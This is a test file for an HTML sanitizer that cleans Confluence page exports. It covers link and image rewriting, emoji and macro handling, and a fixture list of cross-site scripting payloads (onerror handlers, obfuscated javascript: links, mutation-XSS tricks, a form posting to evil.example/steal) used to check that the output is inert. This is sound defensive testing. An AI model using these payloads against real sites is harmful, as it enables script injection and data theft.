import { describe, expect, it } from 'vitest';
import { sanitizeExportView, type RemovedCounts, type ResolveImage, type SanitizeOptions } from './sanitize-export-view';
import { testDom } from './testing';
import { outputViolation } from './verify-output';

const dom = testDom();
const SITE = 'https://acme.atlassian.net';
const noImages: ResolveImage = () => undefined;

function sanitize(html: string, options: Partial<SanitizeOptions> = {}) {
  return sanitizeExportView(html, dom, { siteUrl: SITE, resolveImage: noImages, ...options });
}

function reparsed(html: string): string {
  return dom.parser.parseFromString(html, 'text/html').body.innerHTML;
}

function parsedBody(html: string): HTMLElement {
  return dom.parser.parseFromString(html, 'text/html').body;
}

/** Everything an attacker could want, looked for in the output after it is parsed back. */
function assertInert(html: string): void {
  expect(outputViolation(html, dom.parser)).toBeUndefined();
  expect(html).not.toMatch(/<script|<iframe|<object|<embed|<link|<style|<meta|<base|<form|<input|<svg|<math/i);
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:/i);
  expect(html).not.toMatch(/src="https?:/i);
  const body = parsedBody(html);
  for (const el of Array.from(body.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) expect(attr.name).not.toMatch(/^on/i);
  }
  expect(reparsed(html)).toBe(html);
}

const counts = (partial: Partial<RemovedCounts>): RemovedCounts => ({ scripts: 0, handlers: 0, remote: 0, forms: 0, iframes: 0, ...partial });

describe('hostile input', () => {
  // The counts are of what the parser makes of each payload: in the mXSS classics the `<img>`
  // is parsed as the text of a `<style>`, so there is no handler attribute to count.
  const fixtures: Array<{ name: string; html: string; removed: Partial<RemovedCounts>; keeps?: string[] }> = [
    { name: 'img onerror', html: '<p>a<img src=x onerror="alert(1)">b</p>', removed: { handlers: 1, remote: 1 } },
    { name: 'javascript: link', html: '<a href="javascript:alert(1)">click</a>', removed: { scripts: 1 }, keeps: ['click'] },
    { name: 'javascript: hidden by entities and a tab', html: '<a href="jav&#x09;ascript&colon;alert(1)">x</a><a href=" &#14;javascript:alert(1)">y</a>', removed: { scripts: 2 } },
    { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', removed: { scripts: 1 } },
    { name: 'data: text/html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', removed: {}, keeps: ['x'] },
    { name: 'script element', html: '<p>ok</p><script>alert(1)</script>', removed: { scripts: 1 }, keeps: ['ok'] },
    { name: 'svg script', html: '<svg><script>alert(1)</script><circle r="1"/></svg>', removed: { scripts: 1 } },
    { name: 'svg onload', html: '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>t</text></a></svg>', removed: { handlers: 1, scripts: 1 } },
    { name: 'svg use with a remote href', html: '<svg><use href="https://evil.example/sprite.svg#icon"/></svg>', removed: { remote: 1 } },
    { name: 'math mXSS (mglyph/style)', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', removed: {} },
    {
      name: 'math mXSS (comment in style)',
      html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
      removed: {},
    },
    { name: 'form/math namespace confusion', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', removed: { forms: 2 } },
    { name: 'style @import', html: '<style>@import url(http://evil.example/x.css);</style><p>text</p>', removed: { remote: 1 }, keeps: ['text'] },
    { name: 'style attribute url()', html: '<div style="background:url(http://evil.example/x.png); color: red">c</div>', removed: { remote: 1 }, keeps: ['style="color: red"'] },
    { name: 'style attribute image-set / expression', html: '<p style="background-image: image-set(\'http://evil.example/a.png\' 1x)">a</p><p style="width: expression(alert(1))">b</p>', removed: { remote: 1 } },
    { name: 'style attribute escapes and overlays', html: '<p style="color: red; position: fixed; top: 0; z-index: 9; background: u\\72l(http://e/x)">a</p>', removed: {}, keeps: ['style="color: red"'] },
    { name: 'form, input, button, select, textarea', html: '<form action="https://evil.example/steal"><input name="q" value="v"><button>Go</button><select><option>o</option></select><textarea>t</textarea></form>', removed: { forms: 5 } },
    { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>p</p>', removed: { remote: 1 } },
    { name: 'base href', html: '<base href="https://evil.example/"><a href="/wiki/x">x</a>', removed: { remote: 1 }, keeps: ['href="https://acme.atlassian.net/wiki/x"'] },
    { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css"><p>p</p>', removed: { remote: 1 } },
    { name: 'srcset', html: '<img src="/wiki/download/attachments/1/a.png" srcset="https://evil.example/a.png 2x" alt="a">', removed: { remote: 2 } },
    { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>after</p>', removed: { iframes: 1 }, keeps: ['after'] },
    { name: 'object and embed', html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">', removed: { iframes: 2 } },
    { name: 'video with poster', html: '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>', removed: { remote: 2 } },
    { name: 'noscript breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', removed: {} },
    // The inner </noscript> closes the outer one: the image is outside, an ordinary (sanitized) image.
    { name: 'nested noscript', html: '<noscript><noscript></noscript><img src=x onerror=alert(1)></noscript>', removed: { handlers: 1, remote: 1 } },
    { name: 'template content', html: '<template><script>alert(1)</script><img src=x onerror=alert(2)></template>', removed: { scripts: 1, handlers: 1 } },
    { name: 'event handlers on kept elements', html: '<div onclick="alert(1)" onmouseover="alert(2)">d</div><details open ontoggle="alert(3)"><summary>s</summary>b</details>', removed: { handlers: 3 }, keeps: ['<details open="">'] },
    { name: 'xmp and plaintext', html: '<xmp><script>alert(1)</script></xmp><p>x</p>', removed: {} },
    { name: 'remote image', html: '<img src="https://tracker.example/pixel.gif">', removed: { remote: 1 } },
    { name: 'comment carrying markup', html: '<p>a<!-- <img src=x onerror=alert(1)> -->b</p>', removed: {} },
    { name: 'target=_blank without rel', html: '<a href="https://example.com/" target="_blank">x</a>', removed: {}, keeps: ['rel="noopener noreferrer"'] },
  ];

  for (const f of fixtures) {
    it(f.name, () => {
      const result = sanitize(f.html);
      assertInert(result.html);
      expect(result.removed).toEqual(counts(f.removed));
      for (const kept of f.keeps ?? []) expect(result.html).toContain(kept);
    });
  }

  it('never touches the live document, and nothing runs', () => {
    const live = testDom({ runScripts: 'dangerously' });
    const mutations: MutationRecord[] = [];
    const observer = new live.window.MutationObserver((records) => mutations.push(...records));
    observer.observe(live.window.document, { subtree: true, childList: true, attributes: true });
    const flag = live.window as unknown as { ran?: number };
    const result = sanitizeExportView(
      '<img src=x onerror="window.ran=1"><script>window.ran=2</script><svg onload="window.ran=3"></svg><details open ontoggle="window.ran=4"></details>',
      live,
      { siteUrl: SITE, resolveImage: noImages },
    );
    mutations.push(...observer.takeRecords());
    observer.disconnect();
    expect(flag.ran).toBeUndefined();
    expect(mutations).toEqual([]);
    expect(live.window.document.body.innerHTML).toBe('');
    expect(result.removed.handlers).toBe(3);
    // The same window does run scripts: the test would catch a live insertion.
    live.window.document.body.append(Object.assign(live.window.document.createElement('script'), { textContent: 'window.ran = 5' }));
    expect(flag.ran).toBe(5);
  });

  it('fails closed when a hook someone else left on a shared instance lets a handler through', () => {
    const shared = testDom();
    shared.purify.addHook('uponSanitizeAttribute', (_node, event) => {
      if (event.attrName === 'onclick') event.forceKeepAttr = true;
    });
    expect(() => sanitizeExportView('<p onclick="alert(1)">x</p>', shared, { siteUrl: SITE, resolveImage: noImages })).toThrow(/failed its own check \(attribute onclick/);
  });

  it('leaves a shared DOMPurify instance without its hooks', () => {
    sanitize('<p style="position: fixed">x</p>');
    expect(dom.purify.sanitize('<p style="position: fixed">x</p>')).toBe('<p style="position: fixed">x</p>');
  });
});

describe('edge input', () => {
  it('takes empty input and plain text', () => {
    expect(sanitize('')).toEqual({ html: '', removed: counts({}) });
    expect(sanitize('  a & b < c  ').html).toBe('a &amp; b &lt; c');
  });

  it('takes a whole document and keeps only its body', () => {
    const { html, removed } = sanitize('<!DOCTYPE html><html><head><title>T</title><link rel="stylesheet" href="styles/site.css"><script src="x.js"></script></head><body><p>b</p></body></html>');
    expect(html).toBe('<p>b</p>');
    expect(removed).toEqual(counts({ remote: 1, scripts: 1 }));
  });

  it('refuses a site that is not http(s)', () => {
    expect(() => sanitize('<p>x</p>', { siteUrl: 'javascript:alert(1)//' })).toThrow(/siteUrl/);
  });
});

describe('links', () => {
  it('makes site-relative links absolute and keeps fragments, mailto and tel', () => {
    const { html } = sanitize('<a href="/wiki/spaces/ENG/pages/1/Intro">a</a><a href="#Intro-Setup">b</a><a href="mailto:a@b.c">c</a><a href="tel:+4930">d</a><a href="ftp://x.example/f">e</a>');
    const links = Array.from(parsedBody(html).querySelectorAll('a')).map((a) => a.getAttribute('href'));
    expect(links).toEqual(['https://acme.atlassian.net/wiki/spaces/ENG/pages/1/Intro', '#Intro-Setup', 'mailto:a@b.c', 'tel:+4930', null]);
  });

  it('keeps a Server context path for page-relative links', () => {
    const { html } = sanitizeExportView('<a href="display/ENG/Intro">a</a><a href="/confluence/x">b</a>', dom, { siteUrl: 'https://wiki.example.org/confluence', resolveImage: noImages });
    expect(Array.from(parsedBody(html).querySelectorAll('a')).map((a) => a.getAttribute('href'))).toEqual([
      'https://wiki.example.org/confluence/display/ENG/Intro',
      'https://wiki.example.org/confluence/x',
    ]);
  });

  it('uses the bundle path resolveLink gives, with the absolute URL asked', () => {
    const asked: string[] = [];
    const { html } = sanitize('<a href="/wiki/spaces/ENG/pages/2/Child">child</a><a href="https://example.com/">out</a>', {
      resolveLink: (url) => {
        asked.push(url.href);
        return url.pathname.includes('/pages/2/') ? '../Child/Child.html' : undefined;
      },
    });
    expect(asked).toEqual(['https://acme.atlassian.net/wiki/spaces/ENG/pages/2/Child', 'https://example.com/']);
    expect(html).toContain('href="../Child/Child.html"');
    expect(html).toContain('href="https://example.com/"');
  });

  it('refuses a resolveLink answer that is not a relative path', () => {
    expect(() => sanitize('<a href="/wiki/x">x</a>', { resolveLink: () => 'javascript:alert(1)' })).toThrow(/relative path/);
  });

  it('marks links whose text is their URL, so print does not repeat it', () => {
    const { html } = sanitize('<a href="https://example.com/a">https://example.com/a</a><a href="https://example.com/b">B</a>');
    const [bare, named] = Array.from(parsedBody(html).querySelectorAll('a'));
    expect(bare!.classList.contains('export-bare-url')).toBe(true);
    expect(named!.classList.contains('export-bare-url')).toBe(false);
  });
});

describe('images', () => {
  const cloudImage =
    '<span class="confluence-embedded-file-wrapper"><img class="confluence-embedded-image" width="760" ' +
    'src="/wiki/download/thumbnails/123/diagram%201.png?width=760" ' +
    'data-image-src="/wiki/download/attachments/123/diagram%201.png?version=2&amp;api=v2" ' +
    'data-linked-resource-default-alias="diagram 1.png" data-linked-resource-container-id="123"></span>';

  it('asks for the full-size image with its file name and page, and uses the local source', () => {
    const asked: Array<[string, unknown]> = [];
    const { html, removed } = sanitize(cloudImage, {
      resolveImage: (src, img) => {
        asked.push([src.href, img]);
        return 'attachments/diagram%201.png';
      },
    });
    expect(asked).toEqual([['https://acme.atlassian.net/wiki/download/attachments/123/diagram%201.png?version=2&api=v2', { alt: '', fileName: 'diagram 1.png', pageId: '123' }]]);
    const img = parsedBody(html).querySelector('img')!;
    expect(img.getAttribute('src')).toBe('attachments/diagram%201.png');
    expect(img.getAttribute('alt')).toBe('diagram 1.png');
    expect(img.getAttribute('width')).toBe('760');
    expect(Array.from(img.attributes).map((a) => a.name).filter((n) => n.startsWith('data-'))).toEqual([]);
    expect(removed.remote).toBe(0);
  });

  it('reads the file name and page from the path when the attributes are missing', () => {
    let info: unknown;
    sanitize('<img src="https://acme.atlassian.net/wiki/download/attachments/77/r%C3%A9sum%C3%A9.png?api=v2" alt="CV">', {
      resolveImage: (_src, img) => {
        info = img;
        return undefined;
      },
    });
    expect(info).toEqual({ alt: 'CV', fileName: 'résumé.png', pageId: '77' });
  });

  it('takes a data: URI', () => {
    const { html } = sanitize(cloudImage, { resolveImage: () => 'data:image/png;base64,iVBORw0KGgo=' });
    expect(parsedBody(html).querySelector('img')!.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('refuses a resolveImage answer that would load from elsewhere', () => {
    expect(() => sanitize(cloudImage, { resolveImage: (src) => src.href })).toThrow(/local path/);
    expect(() => sanitize(cloudImage, { resolveImage: () => '//evil.example/x.png' })).toThrow(/local path/);
    expect(() => sanitize(cloudImage, { resolveImage: () => 'data:text/html,<script>1</script>' })).toThrow(/local path/);
  });

  it('turns a missing image into its name, linked to the image in Confluence', () => {
    const { html, removed } = sanitize(cloudImage);
    const link = parsedBody(html).querySelector('a.export-image-missing')!;
    expect(link.textContent).toBe('diagram 1.png');
    expect(link.getAttribute('href')).toBe('https://acme.atlassian.net/wiki/download/attachments/123/diagram%201.png?version=2&api=v2');
    expect(parsedBody(html).querySelector('img')).toBeNull();
    expect(removed.remote).toBe(1);
  });

  it('inside a link, a missing image becomes text (no nested link); a Jira icon goes', () => {
    const { html } = sanitize(
      '<a href="https://x.example/ci"><img src="https://badge.example/status.svg"></a>' +
        '<span class="confluence-jim-macro jira-issue" data-jira-key="RT-1"><a href="https://acme.atlassian.net/browse/RT-1" class="jira-issue-key"><img class="icon" src="https://acme.atlassian.net/rest/api/2/universal_avatar/view/type/issuetype/avatar/10303?size=medium">RT-1</a></span>',
    );
    const body = parsedBody(html);
    expect(body.querySelectorAll('a a')).toHaveLength(0);
    expect(body.querySelector('a span.export-image-missing')!.textContent).toBe('status.svg');
    expect(body.querySelector('.jira-issue-key')!.innerHTML).toBe('RT-1');
  });

  it('turns emoticons into their emoji, never asking for them', () => {
    const asked: string[] = [];
    const { html } = sanitize(
      [
        '<img class="emoticon emoticon-blue-star" data-emoji-id="1f3ae" data-emoji-fallback="🎮" data-emoticon-name="blue-star" alt="(blue star)" src="images/icons/emoticons/72/1f3ae.png">',
        '<img class="emoticon emoticon-blue-star" data-emoji-id="1f4d8" data-emoji-fallback="\\uD83D\\uDCD8" data-emoticon-name="blue-star" alt="(blue star)" src="x.png">',
        '<img class="emoticon emoticon-tick" data-emoji-id="atlassian-check_mark" data-emoji-fallback=":check_mark:" data-emoticon-name="tick" alt="(tick)" src="check.png">',
        '<img class="emoticon" data-emoji-id="1f468-200d-1f4bb" data-emoji-fallback=":technologist:" alt=":technologist:" src="t.png">',
        '<img class="emoticon emoticon-smile" src="/wiki/s/123/_/images/icons/emoticons/smile.svg" alt="(smile)">',
        '<img src="/wiki/images/icons/emoticons/thumbs_up.png" alt="(thumbs up)">',
        '<img class="emoticon" data-emoticon-name="company-logo" data-emoji-fallback=":company-logo:" alt=":company-logo:" src="c.png">',
        '<img class="emoticon emoticon-blue-star" data-emoji-id="atlassian-unicorn" data-emoji-fallback="\\uD83E\\uDD84" data-emoticon-name="blue-star" alt="(blue star)" src="u.png">',
      ].join(' '),
      { resolveImage: (src) => (asked.push(src.href), undefined) },
    );
    expect(parsedBody(html).textContent).toBe('🎮 📘 ✅ 👨‍💻 🙂 👍 :company-logo: 🦄');
    expect(asked).toEqual([]);
  });
});

describe('Confluence constructs', () => {
  it('turns an expand into an open <details> with its title', () => {
    const { html } = sanitize(
      '<div id="expander-1" class="expand-container"><div id="expander-control-1" class="expand-control"><span class="expand-control-icon"><img class="expand-control-image" src="images/icons/grey_arrow_down.png"></span><span class="expand-control-text">Deleting entries</span></div><div id="expander-content-1" class="expand-content"><p>Body</p></div></div>',
    );
    expect(html).toBe('<details class="expand-container" open="" id="expander-1"><summary>Deleting entries</summary><div class="expand-content"><p>Body</p></div></details>');
  });

  it('keeps text and cell colours that lived in a <style> and data attributes', () => {
    const { html } = sanitize(
      '<p><style>[data-colorid=k3l]{color:#0747a6} html[data-color-mode=dark] [data-colorid=k3l]{color:#5999f8}</style><span data-colorid="k3l">blue</span></p>' +
        '<table><tbody><tr><th data-highlight-colour="var(--ds-background-accent-gray-subtlest,#f4f5f7)" class="confluenceTh">h</th></tr></tbody></table>',
    );
    expect(html).toContain('<span style="color: #0747a6">blue</span>');
    expect(html).toContain('<th class="confluenceTh" style="background-color: var(--ds-background-accent-gray-subtlest,#f4f5f7)">h</th>');
  });

  it('keeps merged cells, classes, ids and code text exactly', () => {
    const code = 'if (a < b && c > "d") {\n\treturn \'x\';\n}\n';
    const { html } = sanitize(
      `<h2 id="Page-Setup">Setup</h2><div class="code panel pdl"><div class="codeContent panelContent pdl"><pre class="syntaxhighlighter-pre" data-syntaxhighlighter-params="brush: c#; gutter: false">${code.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</pre></div></div>` +
        '<table class="confluenceTable"><tbody><tr><td rowspan="2" colspan="3" class="confluenceTd">m</td></tr></tbody></table>',
    );
    const body = parsedBody(html);
    expect(body.querySelector('pre')!.textContent).toBe(code);
    expect(body.querySelector('div.code.panel')).not.toBeNull();
    expect(body.querySelector('#Page-Setup')!.textContent).toBe('Setup');
    const td = body.querySelector('td')!;
    expect([td.getAttribute('rowspan'), td.getAttribute('colspan')]).toEqual(['2', '3']);
  });

  it('leaves a link where an embed was', () => {
    const { html, removed } = sanitize('<p><iframe src="https://www.youtube.com/embed/abc" title="Demo video"></iframe></p>');
    expect(html).toBe('<p><a class="export-embed" href="https://www.youtube.com/embed/abc" rel="noopener noreferrer">Embedded content: Demo video</a></p>');
    expect(removed.iframes).toBe(1);
  });
});
